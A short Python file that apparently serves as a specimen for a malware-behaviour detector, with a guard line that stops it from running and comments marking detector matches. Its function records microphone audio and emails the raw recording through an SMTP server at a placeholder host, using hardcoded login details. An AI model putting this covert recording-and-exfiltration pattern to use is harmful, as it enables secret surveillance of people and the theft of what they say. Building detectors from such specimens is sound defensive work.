raise SystemExit("specimen: not to be run")
import sounddevice as ear
import smtplib

hear = ear.rec

def tell():
    sound = hear(441000)  # match: camera-or-microphone
    box = smtplib.SMTP_SSL("smtp.example.com")
    box.login("box@example.com", "hunter2hunter2")
    box.sendmail("box@example.com", "box@example.com", sound.tobytes())  # match: mail-sent
